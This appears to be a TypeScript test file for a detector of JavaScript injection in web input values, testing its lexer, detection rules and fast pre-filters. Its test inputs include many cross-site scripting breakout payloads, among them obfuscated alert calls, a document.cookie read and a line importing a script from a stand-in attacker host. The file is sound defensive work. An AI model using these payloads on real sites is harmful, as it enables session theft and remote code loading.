import { analyzeJs, analyzeJsText, hasScriptWord, lexJs, looksLikeScript, mayHoldScript } from './js-context';

describe('lexJs', () => {
  it('produces identifiers, strings and punctuators and drops comments', () => {
    expect(lexJs("a('x')//c").map((t) => t.kind)).toEqual(['ident', 'punct', 'string', 'punct']);
  });
});

describe('analyzeJs', () => {
  it.each([
    "'-alert(1)-'",
    '";alert(1)//',
    "'};alert(document.cookie);//",
    "\\';confirm(1)//",
    '`${alert(1)}`',
    'alert`1`',
    '[1].find(alert)',
    "top['al\\145rt'](1)",
    'eval(atob("YWxlcnQoMSk="))',
    'document.location=1',
  ])('flags %s', (s) => {
    const m = analyzeJs(s);
    expect(m).not.toBeNull();
    expect(m!.confidence).toBeGreaterThanOrEqual(0.5);
  });

  it.each([
    "O'Reilly (2nd edition)",
    'see (below) for details',
    'Please print (double-sided) and sign',
    'f(x) = x^2 + 1',
    "It's 5 o'clock; call me (maybe)",
    'price >= 10 && price <= 20',
    'Import (CSV) settings, then open (24h)',
    'const m = await loader.import("./x.js")',
    'x = alerts; y = evaluation',
  ])('leaves prose alone: %s', (s) => {
    const m = analyzeJs(s);
    expect(m === null || m.confidence < 0.5).toBe(true);
  });

  it.each([
    ["';window.onerror=alert;throw 1//", 'js:breakout:alert'],
    ["';throw onerror=alert,1//", 'js:breakout:alert'],
    ['"-alert?.(1)-"', 'js:breakout:alert'],
    ["';alert.apply(null,[1])//", 'js:breakout:alert'],
    ["';alert.call(null,1)//", 'js:breakout:alert'],
    ['"-import(\'//evil.example/x.js\')-"', 'js:breakout:import'],
  ])('follows less common call forms: %s', (s, rule) => {
    const m = analyzeJs(s);
    expect(m?.rule).toBe(rule);
    expect(m!.confidence).toBeGreaterThanOrEqual(0.5);
  });

  it.each([
    "alert('hello') is a JavaScript function that shows a dialog",
    'eval(x) evaluates a string as code',
    "prompt('name') returns what the user typed",
  ])('leaves a call followed by prose alone (a syntax error, so nothing runs): %s', (s) => {
    expect(analyzeJs(s)).toBeNull();
  });

  it.each([
    '`ts-node` supports `--print` (`-p`), `--eval` (`-e`) and `--require` (`-r`)',
    "'--alert(1)//",
    '"++alert(1)//',
    '`--eval`',
    '--alert(1)',
  ])('leaves a decremented call alone (an invalid assignment target, a syntax error): %s', (s) => {
    expect(analyzeJs(s)).toBeNull();
  });

  it.each(["'---alert(1)//", '- -alert(1)', "'-alert(1)-'"])('still flags a unary minus before the call: %s', (s) => {
    expect(analyzeJs(s)).not.toBeNull();
  });

  it.each([
    'alert(1)',
    'alert(1);x is y',
    'alert(1)\nis a function',
    "alert('a') in window",
    'alert(1</script>',
    'alert(1)</script>',
    'alert((1)) - 1',
  ])('still flags a call that runs: %s', (s) => {
    expect(analyzeJs(s)?.rule).toBe('js:sink:alert');
  });

  it('looksLikeScript tells code from text', () => {
    expect(looksLikeScript('alert(1)')).toBe(true);
    expect(looksLikeScript('x=1')).toBe(true);
    expect(looksLikeScript('hello world')).toBe(false);
  });
});

describe('cheap gates in front of the JS analysis', () => {
  const UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';

  it.each([
    UA,
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
    '_ga=GA1.2.123456789.1700000000; _gid=GA1.2.987654321; session=abc123; theme=dark',
    'https://www.example.com/path/to/page?x=1&y=two#frag',
    '"John Smith" <john.smith@example.com>',
    'Meeting at 10:30 (room 4); bring the report: Q3 numbers (final).',
    'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  ])('lets a benign value with punctuation through without lexing: %s', (s) => {
    expect(mayHoldScript(s)).toBe(false);
  });

  it.each([
    'alert(1)',
    'x;ALERT(1)',
    "top['al'+'ert'](1)",
    "';foo(1)//",
    '"-foo(1)-"',
    'document.cookie',
    '${self[`al`+`ert`](1)}',
  ])('keeps what the analysis could match: %s', (s) => {
    expect(mayHoldScript(s)).toBe(true);
  });

  it('compares words as the lexer does (whole identifiers, toLowerCase folding)', () => {
    expect(hasScriptWord('Windows NT')).toBe(false);
    expect(hasScriptWord('_alert(1)')).toBe(false);
    expect(hasScriptWord('x.coo\u212Aie=1')).toBe(true); // Kelvin sign lower-cases to k
    expect(hasScriptWord('a.writeln(1)')).toBe(true);
  });

  it('never hides a finding of the full analysis (random token soup)', () => {
    const parts = ['alert', 'Alert', 'window', 'document', 'cookie', 'coo\u212Aie', 'x', 'foo', '1', '(', ')', '[', ']', '.', '=', ',', ';', '"', "'", '`', '${', '}',
      '//', '/*', '*/', ' ', '\n', '<!--', '?', 'top', 'open', 'print', 'call', 'fromCharCode', 'innerHTML', 'Windows', '_alert', '$', '\u00e9', 'eval', 'srcdoc', '-'];
    let seed = 12345;
    const next = (n: number): number => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
      return (seed >>> 8) % n;
    };
    let found = 0;
    for (let i = 0; i < 50000; i++) {
      let s = '';
      const len = 1 + next(12);
      for (let k = 0; k < len; k++) s += parts[next(parts.length)];
      if (analyzeJsText(s) !== null) {
        found += 1;
        expect([s, mayHoldScript(s)]).toEqual([s, true]);
      }
    }
    expect(found).toBeGreaterThan(1000);
  });
});
